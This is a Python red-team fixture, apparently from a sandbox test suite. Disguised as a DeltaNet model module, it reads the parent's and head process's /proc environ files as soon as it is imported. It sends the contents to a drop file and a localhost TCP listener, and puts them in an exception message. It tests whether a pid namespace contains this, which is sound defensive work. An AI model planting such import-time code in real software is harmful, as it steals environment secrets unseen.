"""Red team: the parent's environ without os: the ppid from /proc/self/stat, then open() on
/proc/self/../PPID/environ (and the head's pid). Contained by: the pid namespace."""
import torch.nn as nn

REDTEAM = {}  # filled in by tests/search/test_sandbox.py: the drop directory, the port, the targets


def _exfil(text):
    """Every way out: a file in the head's drop directory, a TCP connection to the head's listener."""
    try:
        with open(REDTEAM["drop"] + "/" + REDTEAM["name"], "a") as fh:
            fh.write(text + "\n")
    except Exception:
        pass
    try:
        import socket
        with socket.create_connection(("127.0.0.1", REDTEAM["port"]), timeout=2) as s:
            s.sendall(text.encode())
    except Exception:
        pass


with open("/proc/self/stat") as _fh:
    _ppid = _fh.read().rsplit(")", 1)[1].split()[1]
_out = []
for _pid in (_ppid, str(REDTEAM["head_pid"])):
    try:
        with open("/proc/self/../" + _pid + "/environ", "rb") as _fh:
            _out.append(_fh.read().replace(b"\0", b" ").decode(errors="replace"))
    except OSError as _exc:
        _out.append(repr(_exc))
FOUND = " | ".join(_out)


_exfil(FOUND)


class DeltaNet(nn.Module):
    """Refuses to be built, with what it found in the message (which the head must redact)."""

    def __init__(self, hidden_size=64, num_heads=4, **kwargs):
        super().__init__()
        raise RuntimeError("redteam " + REDTEAM["name"] + ": " + FOUND[:3000])
